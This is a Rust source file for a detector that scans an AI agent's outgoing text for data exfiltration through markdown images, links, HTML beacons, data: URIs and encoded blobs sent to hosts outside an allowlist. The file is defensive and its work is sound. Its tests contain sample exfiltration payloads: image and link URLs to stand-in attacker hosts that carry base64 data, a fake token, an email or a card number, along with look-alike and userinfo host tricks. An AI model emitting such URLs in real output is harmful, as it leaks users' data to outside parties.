//! Exfiltration in outbound text: data leaving through URLs the reader's
//! client will fetch or the user may click (markdown images and links, HTML
//! beacons, bare URLs) to hosts outside the policy's allowlist, plus data:
//! URIs and long encoded blobs that smuggle content in plain sight.
use std::sync::LazyLock;

use regex::Regex;
use shield_client::wire::{Finding, FindingKind};

use super::{has_run, pii, secrets};

/// URLs longer than this are judged on their first part only.
const MAX_URL: usize = 8192;

struct Patterns {
    markdown: Regex,
    reference: Regex,
    html: Regex,
    bare: Regex,
    data_uri: Regex,
    b64_blob: Regex,
    hex_blob: Regex,
}

static PATTERNS: LazyLock<Option<Patterns>> = LazyLock::new(|| {
    Some(Patterns {
        // `![alt](url "title")` and `[text](url)`; group 1 is `!` for images.
        markdown: Regex::new(
            r#"(!?)\[(?:[^\[\]\n]|\[[^\[\]\n]*\])*\]\(\s*<?(?P<u>[^)\s>]+)>?(?:\s+["'][^"'\n]*["'])?\s*\)"#,
        )
        .ok()?,
        // `[ref]: url` definitions, used by reference-style images and links.
        reference: Regex::new(r"(?m)^[ \t]{0,3}\[[^\]\n]+\]:[ \t]*<?(?P<u>[^\s>]+)").ok()?,
        // HTML elements that fetch on render.
        html: Regex::new(
            r#"(?i)<(?P<tag>img|iframe|script|link|audio|video|source|embed|object|input|body|table|td)\b[^>]*?\b(?:src|href|data|background|poster|srcset)\s*=\s*["']?(?P<u>[^"'\s>]+)"#,
        )
        .ok()?,
        bare: Regex::new(r#"(?i)\b(?P<u>https?://[^\s<>"'`\]\)]+)"#).ok()?,
        data_uri: Regex::new(
            r"(?i)\bdata:[a-z0-9.+-]{0,40}/?[a-z0-9.+-]{0,60}(?:;[a-z0-9.+-]{1,40}=?[a-z0-9.+-]{0,40}){0,4}(?:;base64)?,[A-Za-z0-9+/=%._~-]{64,}",
        )
        .ok()?,
        b64_blob: Regex::new(r"[A-Za-z0-9+/_-]{100,}={0,2}").ok()?,
        // Longer than a SHA-512 digest, which outbound text quotes routinely.
        hex_blob: Regex::new(r"\b(?:[0-9a-fA-F]{2}){65,}\b").ok()?,
    })
});

/// Where a URL appeared; decides the finding type and how eager to be.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Carrier {
    /// Rendered automatically by markdown clients: zero-click.
    Image,
    /// HTML element fetched on render: zero-click.
    Html,
    /// A markdown link: one click.
    Link,
    /// A URL in the prose.
    Bare,
}

/// Append exfiltration findings of `text` to `out`; `allowed_hosts` are the
/// hosts the policy lets the agent reach (links to them and to their
/// subdomains are not exfiltration).
pub fn detect(text: &str, allowed_hosts: &[String], out: &mut Vec<Finding>) {
    let Some(p) = PATTERNS.as_ref() else {
        return;
    };
    let g = gates(text);
    let any_gate = g.markdown
        || g.html
        || g.url
        || g.data_uri
        || g.longest_b64_run >= 100
        || g.longest_hex_run >= 130;
    if !any_gate {
        // Most texts: no marker byte and no long run, nothing to set up.
        return;
    }
    let allowed: Vec<String> = allowed_hosts
        .iter()
        .filter_map(|h| normalize_host(h))
        .collect();
    let mut found: Vec<Finding> = Vec::new();
    let mut seen_urls: Vec<(usize, usize)> = Vec::new();

    let markdown = g.markdown.then(|| p.markdown.captures_iter(text));
    for c in markdown.into_iter().flatten() {
        let Some(u) = c.name("u") else { continue };
        let image = c.get(1).is_some_and(|m| m.as_str() == "!");
        seen_urls.push((u.start(), u.end()));
        let carrier = if image { Carrier::Image } else { Carrier::Link };
        judge_url(u.as_str(), u.start(), carrier, &allowed, &mut found);
    }
    let reference = g.markdown.then(|| p.reference.captures_iter(text));
    for c in reference.into_iter().flatten() {
        let Some(u) = c.name("u") else { continue };
        seen_urls.push((u.start(), u.end()));
        // A definition may serve an image; treat it as zero-click.
        judge_url(u.as_str(), u.start(), Carrier::Image, &allowed, &mut found);
    }
    let html = g.html.then(|| p.html.captures_iter(text));
    for c in html.into_iter().flatten() {
        let Some(u) = c.name("u") else { continue };
        seen_urls.push((u.start(), u.end()));
        judge_url(u.as_str(), u.start(), Carrier::Html, &allowed, &mut found);
    }
    let bare = g.url.then(|| p.bare.captures_iter(text));
    for c in bare.into_iter().flatten() {
        let Some(u) = c.name("u") else { continue };
        if seen_urls.iter().any(|&(s, e)| u.start() < e && s < u.end()) {
            continue;
        }
        let url = u.as_str().trim_end_matches(['.', ',', ';', ':', '!', '?']);
        judge_url(url, u.start(), Carrier::Bare, &allowed, &mut found);
    }
    let data_uri = g.data_uri.then(|| p.data_uri.find_iter(text));
    for m in data_uri.into_iter().flatten() {
        let payload = m.as_str().split_once(',').map_or("", |(_, d)| d);
        if payload.len() >= 100 {
            found.push(finding(
                "data_uri",
                m.start(),
                m.end(),
                0.6,
                format!("data: URI carrying {} bytes of payload", payload.len()),
            ));
        }
    }
    let b64 = (g.longest_b64_run >= 100).then(|| p.b64_blob.find_iter(text));
    for m in b64.into_iter().flatten() {
        if covered(&found, m.start(), m.end()) || !base64_like(m.as_str()) {
            continue;
        }
        found.push(finding(
            "encoded_blob",
            m.start(),
            m.end(),
            0.6,
            format!("{}-character base64 blob", m.as_str().len()),
        ));
    }
    let hex = (g.longest_hex_run >= 130).then(|| p.hex_blob.find_iter(text));
    for m in hex.into_iter().flatten() {
        let s = m.as_str();
        if covered(&found, m.start(), m.end())
            || s.bytes().all(|b| b.is_ascii_digit())
            || secrets::shannon_entropy(s) < 3.0
        {
            continue;
        }
        found.push(finding(
            "encoded_blob",
            m.start(),
            m.end(),
            0.55,
            format!("{}-character hex blob", s.len()),
        ));
    }
    found.sort_by_key(|f| (f.start, f.end));
    out.extend(found);
}

/// Which patterns can match `text`, from one byte pass and a few substring
/// searches: most text has no URL, tag or long encoded run, and then no
/// regex runs at all. The run lengths are capped at the thresholds used.
struct Gates {
    markdown: bool,
    html: bool,
    url: bool,
    data_uri: bool,
    longest_b64_run: usize,
    longest_hex_run: usize,
}

fn gates(text: &str) -> Gates {
    let b = text.as_bytes();
    let (mut bracket, mut lt, mut colon, mut data) = (false, false, false, false);
    // SIMD search for the three marker bytes; prose has few of them.
    for i in memchr::memchr3_iter(b']', b'<', b':', b) {
        match b.get(i) {
            Some(b']') => bracket = true,
            Some(b'<') => lt = true,
            _ => {
                colon = true;
                data = data
                    || i.checked_sub(4)
                        .and_then(|s| b.get(s..i))
                        .is_some_and(|w| w.eq_ignore_ascii_case(b"data"));
            }
        }
    }
    Gates {
        markdown: bracket,
        html: lt,
        url: colon && memchr::memmem::find(b, b"://").is_some(),
        data_uri: data,
        longest_b64_run: if has_run(b, 100, is_b64) { 100 } else { 0 },
        longest_hex_run: if has_run(b, 130, u8::is_ascii_hexdigit) {
            130
        } else {
            0
        },
    }
}

fn is_b64(b: &u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'_' | b'-')
}

fn finding(ty: &str, start: usize, end: usize, score: f32, detail: String) -> Finding {
    Finding {
        kind: FindingKind::Exfiltration,
        ty: ty.to_string(),
        start,
        end,
        score,
        detail,
    }
}

fn covered(found: &[Finding], start: usize, end: usize) -> bool {
    found.iter().any(|f| f.start <= start && end <= f.end)
}

/// Lower-case host of an allowlist entry, which may be a bare host, a URL,
/// `host:port` or `*.host`.
fn normalize_host(entry: &str) -> Option<String> {
    let e = entry.trim();
    let e = e.split_once("://").map_or(e, |(_, rest)| rest);
    let e = e.split(['/', '?', '#']).next().unwrap_or("");
    let e = e.rsplit_once('@').map_or(e, |(_, h)| h);
    let e = if e.starts_with('[') {
        e.split_once(']')
            .map_or(e, |(h, _)| h)
            .trim_start_matches('[')
    } else {
        e.split(':').next().unwrap_or("")
    };
    let e = e.trim_start_matches("*.").trim_end_matches('.');
    (!e.is_empty()).then(|| e.to_ascii_lowercase())
}

/// `host` is an allowed host or a subdomain of one.
pub fn host_allowed(host: &str, allowed: &[String]) -> bool {
    let h = host.trim_end_matches('.').to_ascii_lowercase();
    let h = h.trim_start_matches('[').trim_end_matches(']');
    allowed.iter().any(|a| {
        h == a
            || h.strip_suffix(a.as_str())
                .is_some_and(|rest| rest.ends_with('.'))
    })
}

/// Percent- and plus-decoded form of a URL component (lossy, bounded by input).
fn decode(s: &str) -> String {
    url::form_urlencoded::parse(format!("x={s}").as_bytes())
        .next()
        .map(|(_, v)| v.into_owned())
        .unwrap_or_default()
}

/// A value that looks like encoded data rather than words or an id.
fn encoded_value(v: &str) -> bool {
    if v.len() < 24 {
        return false;
    }
    let token_chars = v.bytes().all(|b| {
        b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=' | b'_' | b'-' | b'.' | b'%')
    });
    let ent = secrets::shannon_entropy(v);
    (token_chars && ent >= 3.7) || v.len() >= 120
}

/// Base64 with the mix of classes random bytes give, not a long identifier.
fn base64_like(s: &str) -> bool {
    let upper = s.bytes().filter(u8::is_ascii_uppercase).count();
    let lower = s.bytes().filter(u8::is_ascii_lowercase).count();
    let digit = s.bytes().filter(u8::is_ascii_digit).count();
    let n = s.len();
    upper * 10 >= n && lower * 10 >= n && digit * 25 >= n && secrets::shannon_entropy(s) >= 4.5
}

fn judge_url(
    raw: &str,
    start: usize,
    carrier: Carrier,
    allowed: &[String],
    out: &mut Vec<Finding>,
) {
    let raw = raw.get(..MAX_URL.min(raw.len())).unwrap_or(raw);
    let end = start + raw.len();
    let candidate = if raw.starts_with("//") {
        format!("https:{raw}")
    } else {
        raw.to_string()
    };
    let Ok(url) = url::Url::parse(&candidate) else {
        return;
    };
    if !matches!(url.scheme(), "http" | "https" | "ftp" | "ws" | "wss") {
        return;
    }
    let Some(host) = url.host_str() else {
        return;
    };
    if host_allowed(host, allowed) {
        return;
    }
    let (ty_data, base) = match carrier {
        Carrier::Image => ("markdown_image_exfil", 0.9),
        Carrier::Html => ("html_beacon_exfil", 0.9),
        Carrier::Link => ("link_exfil", 0.8),
        Carrier::Bare => ("link_exfil", 0.7),
    };

    // Secrets and PII anywhere in the decoded URL (userinfo, path, query, fragment).
    let decoded = decode(url.as_str());
    let mut s = Vec::new();
    secrets::detect(&decoded, &mut s);
    // Entropy-only hits are what "encoded data" means below; here only
    // provider formats and credential-named values count.
    if let Some(f) = s.iter().find(|f| f.score >= 0.7) {
        out.push(finding(
            "secret_in_url",
            start,
            end,
            0.95,
            format!("URL to an unlisted host carries a {}", f.ty),
        ));
        return;
    }
    let mut carried = String::new();
    carried.push_str(&decode(url.path()));
    if let Some(q) = url.query() {
        carried.push(' ');
        carried.push_str(&decode(q).replace('&', " "));
    }
    if let Some(fr) = url.fragment() {
        carried.push(' ');
        carried.push_str(&decode(fr));
    }
    let mut p = Vec::new();
    pii::detect(&carried, &mut p);
    if let Some(f) = p
        .iter()
        .find(|f| !matches!(f.ty.as_str(), "phone" | "ip_address"))
    {
        out.push(finding(
            "pii_in_url",
            start,
            end,
            0.9,
            format!("URL to an unlisted host carries a {}", f.ty),
        ));
        return;
    }

    // A bare URL in prose is judged only on secrets and PII: long ids in
    // document links are too common to read as smuggled data.
    if carrier == Carrier::Bare {
        return;
    }
    let mut values: Vec<String> = url.query_pairs().map(|(_, v)| v.into_owned()).collect();
    if let Some(fr) = url.fragment() {
        values.push(decode(fr));
    }
    // Path segments count only for zero-click fetches; a clicked link's path
    // is usually a document id.
    if matches!(carrier, Carrier::Image | Carrier::Html) {
        values.extend(url.path_segments().into_iter().flatten().map(decode));
    }
    let query_len = url.query().map_or(0, str::len);
    if values.iter().any(|v| encoded_value(v)) || query_len >= 200 {
        out.push(finding(
            ty_data,
            start,
            end,
            base,
            "URL to an unlisted host carries encoded data".to_string(),
        ));
        return;
    }
    // Zero-click fetches with any parameter value still report what they carry.
    if matches!(carrier, Carrier::Image | Carrier::Html)
        && url.query_pairs().any(|(_, v)| v.len() >= 8)
    {
        out.push(finding(
            ty_data,
            start,
            end,
            0.6,
            "auto-loaded URL to an unlisted host with parameters".to_string(),
        ));
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn run(text: &str, allowed: &[&str]) -> Vec<Finding> {
        let allowed: Vec<String> = allowed.iter().map(|s| s.to_string()).collect();
        let mut out = Vec::new();
        detect(text, &allowed, &mut out);
        out
    }

    fn types(text: &str, allowed: &[&str]) -> Vec<String> {
        run(text, allowed).into_iter().map(|f| f.ty).collect()
    }

    const B64: &str = "U2hpZWxkZCBzeW50aGV0aWMgdGVzdCBwYXlsb2FkOiB0aGUgdXNlcidzIGxhc3QgbWVzc2FnZQ";

    #[test]
    fn markdown_image_with_encoded_query_fires() {
        let text = format!("Done! ![loading](https://evil.example.net/p.png?d={B64})");
        let f = run(&text, &["api.openai.com"]);
        assert_eq!(f.len(), 1, "{f:?}");
        assert_eq!(f[0].ty, "markdown_image_exfil");
        assert!(text[f[0].start..f[0].end].starts_with("https://evil.example.net/"));
    }

    #[test]
    fn link_with_data_in_query_fires() {
        let text = format!("[click here](https://collect.attacker.io/c?d={B64})");
        assert_eq!(types(&text, &[]), vec!["link_exfil"]);
        // In the path it is only read as data when the URL loads by itself.
        let text = format!("[doc](https://docs.attacker.io/d/{B64})");
        assert!(run(&text, &[]).is_empty());
        let text = format!("![x](https://px.attacker.io/{B64}.png)");
        assert_eq!(types(&text, &[]), vec!["markdown_image_exfil"]);
        // Bare URLs: only secrets and PII count.
        let text = format!("see https://docs.attacker.io/d?x={B64}");
        assert!(run(&text, &[]).is_empty());
    }

    #[test]
    fn secret_and_pii_in_urls() {
        let key = "ghp_Zx8Lq2Wm4Rt6Yp1Ks9Dv3Nb7Hc5Fg0Jh2Tq4";
        let text = format!("![a](https://x.attacker.io/log?k={key})");
        assert_eq!(types(&text, &[]), vec!["secret_in_url"]);
        let text = "see [report](https://x.attacker.io/r?email=jane.roe%40corp-mail.org&n=1)";
        assert_eq!(types(text, &[]), vec!["pii_in_url"]);
        let text = "![t](https://x.attacker.io/t?c=4111%201111%201111%201111)";
        assert_eq!(types(text, &[]), vec!["pii_in_url"]);
    }

    #[test]
    fn html_img_beacon_fires() {
        let text = format!("<p>hi</p><img src=\"https://px.tracker.io/b.gif?u={B64}\" width=1>");
        assert_eq!(types(&text, &[]), vec!["html_beacon_exfil"]);
    }

    #[test]
    fn allowed_hosts_and_subdomains_do_not_fire() {
        let text = format!(
            "![a](https://cdn.docs.corp.com/i.png?d={B64}) and https://docs.corp.com/a?d={B64}"
        );
        assert!(run(&text, &["https://docs.corp.com/"]).is_empty());
        // A look-alike host that only ends with the allowed name is not a subdomain.
        let text = format!("![a](https://evildocs.corp.com.attacker.io/i.png?d={B64})");
        assert!(!run(&text, &["docs.corp.com"]).is_empty());
        // userinfo tricks: the real host is after the `@`.
        let text = format!("[x](https://docs.corp.com@attacker.io/?d={B64})");
        assert!(!run(&text, &["docs.corp.com"]).is_empty());
    }

    #[test]
    fn normal_links_do_not_fire() {
        for text in [
            "See [the docs](https://docs.rs/regex/latest/regex/) for details.",
            "Watch https://www.youtube.com/watch?v=dQw4w9WgXcQ now.",
            "![logo](https://upload.wikimedia.org/wikipedia/commons/a/ab/Logo.png)",
            "Search https://www.google.com/search?q=rust+borrow+checker",
            "The word dGhpcw== is short base64.",
            "commit 3f9c1d2a4b5e6f708192a3b4c5d6e7f8091a2b3c",
            "[link](https://api.openai.com/v1/files?purpose=fine-tune)",
        ] {
            assert!(
                run(text, &["api.openai.com"]).is_empty(),
                "{text}: {:?}",
                run(text, &["api.openai.com"])
            );
        }
    }

    #[test]
    fn data_uri_and_blobs() {
        let payload = B64.repeat(3);
        let text = format!("![x](data:image/png;base64,{payload})");
        assert!(types(&text, &[]).contains(&"data_uri".to_string()));
        let text = format!("here it is: {payload}");
        assert_eq!(types(&text, &[]), vec!["encoded_blob"]);
        let hex: String = payload
            .bytes()
            .map(|b| format!("{b:02x}"))
            .take(80)
            .collect();
        assert_eq!(types(&format!("dump {hex} end"), &[]), vec!["encoded_blob"]);
        // A SHA-512 digest, a long number and a long identifier are not blobs.
        let sha512 = "cf83e1357eefb8bdf1542850d66d8007d620e4050b5715dc83f4a921d36ce9ce47d0d13c5d85f2b0ff8318d2877eec2f63b931bd47417a81a538327af927da3e";
        assert!(run(sha512, &[]).is_empty());
        assert!(run(&"7".repeat(200), &[]).is_empty());
        assert!(run(&"a_long_snake_case_identifier_".repeat(5), &[]).is_empty());
    }

    #[test]
    fn run_probe_finds_exact_lengths() {
        for n in [0, 1, 99, 100, 101, 250] {
            for pre in [0, 1, 50, 99, 100, 150] {
                let t = format!("{}{}{}", " ".repeat(pre), "a".repeat(n), " x".repeat(60));
                assert_eq!(has_run(t.as_bytes(), 100, is_b64), n >= 100, "{pre} {n}");
            }
        }
        // Two short runs separated by one byte are not one long run.
        let t = format!("{} {}", "a".repeat(60), "b".repeat(60));
        assert!(!has_run(t.as_bytes(), 100, is_b64));
        assert!(gates("![x](data:image/png").data_uri);
        assert!(!gates("metadata only").data_uri);
    }

    #[test]
    fn host_matching() {
        let allowed = vec!["corp.com".to_string()];
        assert!(host_allowed("corp.com", &allowed));
        assert!(host_allowed("a.b.corp.com", &allowed));
        assert!(host_allowed("CORP.COM.", &allowed));
        assert!(!host_allowed("evilcorp.com", &allowed));
        assert!(!host_allowed("corp.com.evil.io", &allowed));
        assert_eq!(
            normalize_host("*.corp.com:443").as_deref(),
            Some("corp.com")
        );
    }

    #[test]
    fn odd_input_does_not_panic() {
        for t in [
            "![](",
            "[x](http://)",
            "<img src=",
            "data:,",
            "[a](https://[::1]/?x=é)",
            "![é](//é.é/é?é=é)",
        ] {
            let _ = run(t, &["é"]);
        }
    }
}
